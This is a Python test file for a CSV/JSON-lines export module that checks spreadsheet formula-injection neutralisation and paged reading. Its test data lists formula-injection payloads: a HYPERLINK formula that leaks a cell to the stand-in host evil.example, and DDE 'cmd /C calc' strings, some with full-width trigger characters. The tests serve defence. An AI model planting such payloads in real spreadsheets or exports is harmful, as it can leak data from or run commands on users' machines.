"""Exports as a spreadsheet opens them: no cell starts a formula; rows come page by page."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import pytest

from storage.exports import KINDS, Row, Rules, in_pages, last_id, neutralise, write_rows
from storage.unit_of_work import UnitOfWork, UnitOfWorkFactory

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '＝HYPERLINK("http://evil.example")',  # full-width equals, as a Chinese IME types it
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",  # small form variants
    "﹢1",
    "﹣1",
    "﹫SUM(A1)",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_cell_that_would_start_a_formula_is_quoted(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "3号楼楼道灯坏了", "R20261122-0001", "a=b", " =1", "'=1"])
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


async def _rows() -> AsyncIterator[dict[str, object]]:
    yield {"name": "=cmd|' /C calc'!A0", "count": -3, "nested": {"k": "=1"}, "none": None}
    yield {"name": "张三", "count": 2, "nested": ["＝1"], "none": None}


async def test_csv_cells_are_neutralised_and_jsonl_kept_exact() -> None:
    out = io.StringIO()
    assert await write_rows(_rows(), "csv", out) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["name"] == "'=cmd|' /C calc'!A0"
    assert rows[0]["count"] == "-3", "a number is a number: nothing to quote"
    assert rows[0]["nested"] == '{"k": "=1"}' and rows[1]["name"] == "张三"
    assert all(not v.startswith(("=", "+", "@", "＝")) for r in rows for v in r.values())

    exact = io.StringIO()
    await write_rows(_rows(), "jsonl", exact)
    assert '"name": "=cmd|' in exact.getvalue(), "JSON lines are data, not a spreadsheet"


async def test_pages_hand_out_every_row_once_in_short_units(
    sqlite_url: str,
) -> None:
    """in_pages reads page by page, each page in its own unit of work."""
    from storage.engine import create_engine, session_factory

    engine = create_engine(sqlite_url)
    factory = UnitOfWorkFactory(session_factory(engine))
    opened: list[int] = []
    data = list(range(1, 1002))

    def units() -> UnitOfWork:
        opened.append(1)
        return factory()

    async def page(_uow: UnitOfWork, after: int, size: int) -> tuple[list[Row], int | None]:
        ids = [i for i in data if i > after][:size]
        return [{"id": i} for i in ids], last_id(ids, size)

    try:
        got = [row["id"] async for row in in_pages(units, page, size=100)]
    finally:
        factory.close()
        await engine.dispose()
    assert got == data
    assert len(opened) == 11, "1,001 rows in pages of 100: eleven short units of work"


def test_rules_name_the_missing_rule() -> None:
    class Missing:
        pass

    with pytest.raises(LookupError, match="Missing"):
        Rules().get(Missing)


def test_every_kind_is_registered() -> None:
    import consultation.exports  # noqa: F401

    assert {"tickets", "topics", "meetings", "polls", "votes", "outcomes"} <= set(KINDS)
    assert {"residents", "audit"} <= set(KINDS)
